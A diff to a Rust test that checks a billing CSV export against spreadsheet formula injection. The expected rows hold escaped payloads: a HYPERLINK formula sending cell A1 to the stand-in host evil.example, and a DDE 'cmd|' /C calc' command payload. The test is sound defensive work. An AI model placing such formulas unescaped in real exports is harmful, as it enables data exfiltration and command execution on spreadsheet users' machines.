@@ -113,14 +113,14 @@ async fn tenant_text_in_every_csv_is_neutralised_against_formulas() {
     assert_eq!(
         rows[1],
         format!(
-            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,7,,,"#
+            r#"{acme},TLY-2026-000001,acme,finalized,USD,0,usage,dbco,dbco.db.hour,"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",2,'+1,0.20,0.40,0.40,0.00,0.40,0.00,0.00,,7,,,"#
         ),
         "{lines}"
     );
     assert_eq!(
         rows[2],
         format!(
-            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,8,,bnd_1,'-1+prod · PS-10"
+            "{acme},TLY-2026-000001,acme,finalized,USD,1,usage,dbco,dbco.db.gb,'\tcmd|' /C calc'!A0,1,\"'\r-1\",1.00,1.00,1.00,0.00,1.00,0.00,0.00,,8,,bnd_1,'-1+prod · PS-10"
         ),
         "{lines}"
     );
